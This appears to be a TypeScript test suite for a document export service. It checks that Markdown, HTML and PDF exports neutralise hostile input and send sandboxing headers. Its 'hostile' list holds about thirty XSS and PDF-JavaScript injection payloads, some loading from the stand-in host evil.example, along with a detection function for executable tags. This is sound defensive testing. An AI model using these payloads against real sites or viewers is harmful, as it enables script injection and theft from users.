import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { describe, test } from 'node:test'
import { inflateSync } from 'node:zlib'
import { sharedTestService } from '../../../test/support/people.ts'
import { bodyHtml, htmlPage, markdownParts } from './export-html.ts'
import { pdfOf } from './export-pdf.ts'
import { htmlBlocks } from './html-blocks.ts'
import { latin } from './latin.ts'

/** Texts that become script somewhere, unless somebody takes care. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<base href="//evil.example/"><form action="/x"><button formaction="javascript:alert(1)">x',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<!--><script>alert(1)</script>-->',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x)',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '```html"onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  ') Tj ET endstream endobj /OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  '\u0000<script\u0000>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
]

/** Anything in HTML that a browser would execute or load. */
function dangers(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? []
  return tags.filter(
    tag =>
      /^<\/?(script|iframe|object|embed|svg|math|base|form|button|link|noscript|animate)\b/i.test(tag) ||
      /\son\w+\s*=/i.test(tag.replace(/"[^"]*"/g, '""')) ||
      /(href|src)="\s*(?!https?:|mailto:|tel:|cid:|#|\/(?!\/)|[\w%.-]*")/i.test(tag) ||
      (/style=/i.test(tag) && !/style="text-align:\w+"/.test(tag)),
  )
}

/** Everything that the objects of a PDF say, with their streams unpacked. */
function pdfText(pdf: Buffer): string {
  const raw = pdf.toString('latin1')
  const streams = [...raw.matchAll(/stream\n([\s\S]*?)\nendstream/g)].map(([, packed = '']) => {
    try {
      return inflateSync(Buffer.from(packed, 'latin1')).toString('latin1')
    } catch {
      return ''
    }
  })
  return raw.replace(/stream\n[\s\S]*?\nendstream/g, '') + streams.join('\n')
}

/** The text that is shown, which is written in hexadecimal numbers. */
function shownIn(pdf: Buffer): string {
  return [...pdfText(pdf).matchAll(/<([0-9a-f]+)>/g)]
    .map(([, hex = '']) => Buffer.from(hex, 'hex').toString('latin1'))
    .join('')
}

describe('hostile texts', () => {
  for (const format of ['markdown', 'html', 'text', 'x-unknown'])
    test(`of the format ${format} become no script in HTML and PDF, as a text and as a name`, async () => {
      for (const text of [...hostile, hostile.join('\n\n')]) {
        const body = await bodyHtml({ body: text, format })
        assert.deepEqual(dangers(body), [], text)
        const page = htmlPage(text, body)
        assert.deepEqual(
          dangers(page).filter(tag => !/^<\/?style>$/.test(tag)),
          [],
          text,
        )
        assert.equal(page.match(/<title>/g)?.length, 1)
      }
      const pdf = await pdfOf(hostile.join(' '), await bodyHtml({ body: hostile.join('\n\n'), format }), undefined)
      const objects = pdfText(pdf).replace(/<[0-9a-f]+>/g, '')
      for (const action of [/\/JavaScript/, /\/JS\b/, /\/OpenAction\s*<</, /\/AA\b/, /\/Launch/, /\/EmbeddedFile/])
        assert.doesNotMatch(objects.replace(/\((?:\\.|[^\\)])*\)/g, '()'), action)
      assert.doesNotMatch(objects, /\/URI \((?!https?:|mailto:|tel:)/)
    })

  test('the test sees what it looks for', () => {
    for (const bad of [
      '<script>',
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:x">',
      '<svg onload=x>',
      '<p style="x:y">',
    ])
      assert.equal(dangers(bad).length, 1, bad)
    for (const good of ['<a href="https://a.example" title="a onclick=b">', '<img src="/x.png" alt="x">', '<p>'])
      assert.deepEqual(dangers(good), [], good)
  })
})

describe('the parts of a text', () => {
  test('a long text is rendered in parts, which together are the text', () => {
    const long = Array.from({ length: 4000 }, (_, i) => `# Heading ${i}\n\nA paragraph of some words.\n`).join('\n')
    const parts = [...markdownParts(long)]
    assert.ok(parts.length > 4)
    assert.ok(parts.every(part => part.length < 26_000))
    assert.equal(parts.join('\n'), long)
  })

  test('a block of code is not divided', () => {
    const code = `\`\`\`\n${'# not a heading\n\n'.repeat(2500)}\`\`\``
    const parts = [...markdownParts(`text\n\n${code}\n\n# After`)]
    assert.equal(parts.filter(part => part.includes('not a heading')).length, 1)
    assert.equal(parts.join('\n'), `text\n\n${code}\n\n# After`)
  })

  test('blocks have a kind, a level and looks', async () => {
    const html = await bodyHtml({
      format: 'markdown',
      body: '## Two\n\nA **bold** [link](https://a.example/?a=1&b=2).\n\n1. one\n2. two\n   - deep\n\n> said\n\n```\na  b\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---',
    })
    const blocks = htmlBlocks(html)
    assert.deepEqual(
      blocks.map(({ kind, level, runs }) =>
        `${kind} ${level} ${runs
          .map(run => run.text)
          .join('')
          .trim()}`.trim(),
      ),
      [
        'heading 2 Two',
        'text 0 A bold link.',
        'item 1 1. one',
        'item 1 2. two',
        'item 2 • deep',
        'quote 0 said',
        'code 0 a  b',
        'row 0 a   b',
        'row 0 1   2',
        'rule 0',
      ],
    )
    const link = blocks[1]?.runs.find(run => run.link !== '')
    assert.deepEqual([link?.text, link?.link], ['link', 'https://a.example/?a=1&b=2'])
    assert.equal(blocks[1]?.runs.find(run => run.bold)?.text, 'bold')
  })

  test('letters that the built-in fonts lack lose their accents or become question marks', () => {
    assert.equal(latin('Größe ½ “x” – 10 €'), 'Größe ½ “x” – 10 €')
    assert.equal(latin('Łódź Nový ﬁ'), '?ódz Nový fi')
    assert.equal(latin('日本 ✅\u0007\u200b'), '?? ?')
  })
})

describe('a document', async () => {
  const { ada, bob, eve } = await sharedTestService()
  const { id } = await bob.post('/docs/doc', { name: 'Über <b>"us"</b>/..' })
  const text = 'Hello *you*, [evil](javascript:alert(1)) ![p](https://tracker.example/p.png)'
  await bob.must('PUT', `/docs/content/${id}`, { body: { body: text }, headers: { 'if-match': '*' } })

  test('is exported as a file in three formats, with headers that keep a browser from executing it', async () => {
    for (const [query, type, ending] of [
      ['', 'text/markdown; charset=utf-8', 'md'],
      ['?format=markdown', 'text/markdown; charset=utf-8', 'md'],
      ['?format=html', 'text/html; charset=utf-8', 'html'],
      ['?format=pdf', 'application/pdf', 'pdf'],
    ] as const) {
      const { status, headers, body } = await bob.ask('GET', `/docs/doc/${id}/export${query}`)
      assert.deepEqual([status, headers.get('content-type')], [200, type])
      assert.match(headers.get('content-disposition') ?? '', new RegExp(`^attachment; filename="document\\.${ending}"`))
      assert.match(headers.get('content-security-policy') ?? '', /^sandbox; default-src 'none'/)
      assert.equal(headers.get('x-content-type-options'), 'nosniff')
      if (ending === 'md') assert.equal(body, text)
      if (ending === 'html')
        assert.match(body, /<h1>Über &lt;b&gt;&quot;us&quot;&lt;\/b&gt;\/\.\.<\/h1>\n<p>Hello <em>you<\/em>/)
      if (ending === 'pdf') assert.match(body, /^%PDF-/)
    }
  })

  test('tells other servers nothing, unless the reader asks for their images', async () => {
    assert.doesNotMatch((await bob.ask('GET', `/docs/doc/${id}/export?format=html`)).body, / src="https/)
    assert.match((await bob.ask('GET', `/docs/doc/${id}/export?format=html&images=remote`)).body, / src="https/)
  })

  test('is exported to whoever may read it', async () => {
    assert.equal((await eve.ask('GET', `/docs/doc/${id}/export`)).status, 404)
    const bad = await bob.ask('GET', `/docs/doc/${id}/export?format=docx`)
    assert.deepEqual([bad.status, bad.body.Fields[0].Field], [400, 'format'])
    await ada.must('PUT', `/docs/content/${id}`, {
      body: { body: 'word '.repeat(61_000) },
      headers: { 'if-match': '*' },
    })
    const long = await bob.ask('GET', `/docs/doc/${id}/export?format=pdf`)
    assert.deepEqual([long.status, long.body.code], [422, 'too-long'])
    assert.equal((await bob.ask('GET', `/docs/doc/${id}/export?format=html`)).status, 200)
  })

  test('shows in PDF what it says, in a font of the operator also in other scripts', async () => {
    const html = await bodyHtml({ body: '# Größe\n\nSome *words*.', format: 'markdown' })
    assert.match(shownIn(await pdfOf('Name', html, undefined)).replaceAll(/\s/g, ''), /NameGrößeSomewords\./)
    const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
    if (!existsSync(font)) return
    const own = await pdfOf('Имя', '<p>Привет</p>', font)
    assert.match(pdfText(own), /DejaVuSans/)
  })
})
